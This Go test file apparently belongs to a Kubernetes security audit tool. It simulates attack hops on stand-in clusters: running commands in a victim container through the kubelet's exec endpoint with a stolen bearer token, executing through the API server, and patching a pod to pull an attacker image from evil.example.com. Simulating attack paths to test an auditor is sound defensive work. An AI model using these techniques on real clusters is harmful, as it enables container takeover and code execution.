package walk

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strings"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/kubectl-sysaudit/kubectl-sysaudit/test/standin"
)

const evilImage = "evil.example.com/loot:1"

// victim is a pod with the container that the hop is to give, such as "code in
// container main of kube-system/DaemonSet/agent".
func (a attempt) victim(ctx context.Context) (*corev1.Pod, string, error) {
	text, ok := strings.CutPrefix(a.hop.To, "code in container ")
	name, workload, both := strings.Cut(text, " of ")
	parts := strings.Split(workload, "/")
	if !ok || !both || len(parts) != 3 {
		return nil, "", fmt.Errorf("%q names no container", a.hop.To)
	}
	pods, err := a.pods(ctx)
	if err != nil {
		return nil, "", err
	}
	there := of(pods, parts[0], parts[2])
	if len(there) == 0 {
		return nil, "", fmt.Errorf("no pod has %s", a.hop.To)
	}
	return &there[0], name, nil
}

// runThroughKubelet runs a program in the container by a request to the kubelet
// of its node, which looks like reading.
func runThroughKubelet(ctx context.Context, a attempt) error {
	access, err := a.credential()
	if err != nil {
		return err
	}
	pod, name, err := a.victim(ctx)
	if err != nil {
		return err
	}
	path := "/exec/" + pod.Namespace + "/" + pod.Name + "/" + name
	kubelet := a.kubelets[pod.Spec.NodeName].Access(access.BearerToken)
	answer, err := standin.Ask(ctx, kubelet, http.MethodGet, path+"?command=id&output=1", "websocket")
	if err != nil {
		return err
	}
	return a.ran(ctx, pod, answer, "GET "+path)
}

// runThroughServer runs a program in the container through the API server.
func runThroughServer(ctx context.Context, a attempt) error {
	access, err := a.credential()
	if err != nil {
		return err
	}
	pod, name, err := a.victim(ctx)
	if err != nil {
		return err
	}
	query := url.Values{"container": {name}, "command": {"id"}, "stdout": {"true"}}
	path := "/api/v1/namespaces/" + pod.Namespace + "/pods/" + pod.Name + "/exec?" + query.Encode()
	answer, err := standin.Ask(ctx, access, http.MethodPost, path, "SPDY/3.1")
	if err != nil {
		return err
	}
	return a.ran(ctx, pod, answer, "POST /exec/"+pod.Namespace+"/"+pod.Name+"/"+name)
}

// ran takes the pod, if its kubelet was asked for what was meant.
func (a attempt) ran(ctx context.Context, pod *corev1.Pod, got, want string) error {
	if got != want {
		return fmt.Errorf("the kubelet was asked for %q, want %q", got, want)
	}
	return a.take(ctx, pod)
}

// replaceImage has the container restart with an image of the attacker's.
func replaceImage(ctx context.Context, a attempt) error {
	client, err := a.client()
	if err != nil {
		return err
	}
	pod, name, err := a.victim(ctx)
	if err != nil {
		return err
	}
	change := fmt.Appendf(nil, `{"spec": {"containers": [{"name": %q, "image": %q}]}}`, name, evilImage)
	changed, err := client.CoreV1().Pods(pod.Namespace).Patch(ctx, pod.Name, types.StrategicMergePatchType, change, metav1.PatchOptions{})
	if err != nil {
		return fmt.Errorf("patch pod: %w", err)
	}
	if got := changed.Spec.Containers[0].Image; got != evilImage {
		return fmt.Errorf("the image is %s", got)
	}
	return a.take(ctx, changed)
}
